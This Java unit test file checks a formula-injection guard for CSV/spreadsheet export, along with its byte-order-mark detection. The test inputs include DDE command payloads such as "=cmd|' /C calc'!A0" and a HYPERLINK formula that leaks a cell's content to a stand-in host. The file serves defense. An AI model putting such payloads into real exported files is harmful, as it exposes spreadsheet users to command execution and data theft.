package io.limpide.connect.write;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        " =1+1",
        "\u00A0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "+33-6-12-34-56-78",
        "-1+2",
        "+A1",
        "-foo",
        "- Paris",
        "@A1",
        "@ABC123",
        "+",
        "+(1)",
        "'=1+1",
        "''+A1"
      })
  void disarms_what_a_spreadsheet_would_run(String formula) {
    assertThat(FormulaGuard.guard(formula)).isEqualTo("'" + formula);
    assertThat(FormulaGuard.strip("'" + formula)).isEqualTo(formula);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "Dupont",
        "-5",
        "-12,50 €",
        "+3.5",
        "-0.5%",
        "-1 234,5",
        "+33 6 12 34 56 78",
        "+33612345678",
        "+49 (0)170.123.45",
        "-",
        "---",
        "@handle",
        "@limpide_fr",
        "@abcd1",
        "l'été",
        "'",
        "'s-Hertogenbosch",
        "'t Hof",
        "'-5",
        "jean@example.org",
        "a=b",
        "1-2"
      })
  void leaves_harmless_values_as_they_are(String value) {
    assertThat(FormulaGuard.guard(value)).isEqualTo(value);
    assertThat(FormulaGuard.strip(value)).isEqualTo(value);
  }

  @ParameterizedTest(name = "seed {0}")
  @MethodSource("io.limpide.engine.Seeds#hundred")
  void gives_back_every_text_and_touches_nothing_else(long seed) {
    SplittableRandom random = new SplittableRandom(seed);
    String alphabet = "'=+-@ \t\r\n\0a1Z(.,€%\u00A0＝";
    for (int i = 0; i < 2_000; i++) {
      StringBuilder text = new StringBuilder();
      for (int length = random.nextInt(6); length > 0; length--) {
        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      String value = text.toString();
      String guarded = FormulaGuard.guard(value);
      assertThat(FormulaGuard.strip(guarded)).isEqualTo(value);
      String stripped = FormulaGuard.strip(value);
      if (!stripped.equals(value)) { // then guard made it
        assertThat(FormulaGuard.guard(stripped)).isEqualTo(value);
      }
    }
  }

  @Test
  void knows_a_file_by_its_byte_order_mark_and_its_first_name_alone_in_quotes() {
    assertThat(isMarked("\uFEFF\"id\";nom;ville\r\n1;a;b\r\n")).isTrue();
    assertThat(isMarked("\uFEFF\"id\"\r\n1\r\n")).isTrue();
    assertThat(isMarked("\uFEFF\"id\";\"nom; prénom\";\"le \"\"grand\"\"\"\r\n")).isTrue();
    assertThat(isMarked("\uFEFF\"id, a\",nom\r\n")).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "\uFEFF",
        "\uFEFF\"",
        "\"id\";nom\r\n", // no byte order mark: not ours
        "\uFEFFid;nom\r\n", // nothing in quotes
        "\uFEFF\"id\";\"nom\"\r\n", // every name in quotes, as many programs write
        "\uFEFF\"id\";nom\n", // other line ends
        "\uFEFF\"id\"x;nom\r\n"
      })
  void takes_no_other_file_for_ours(String text) {
    assertThat(isMarked(text)).isFalse();
  }

  private static boolean isMarked(String text) {
    return FormulaGuard.isMarked(text.getBytes(StandardCharsets.UTF_8));
  }
}
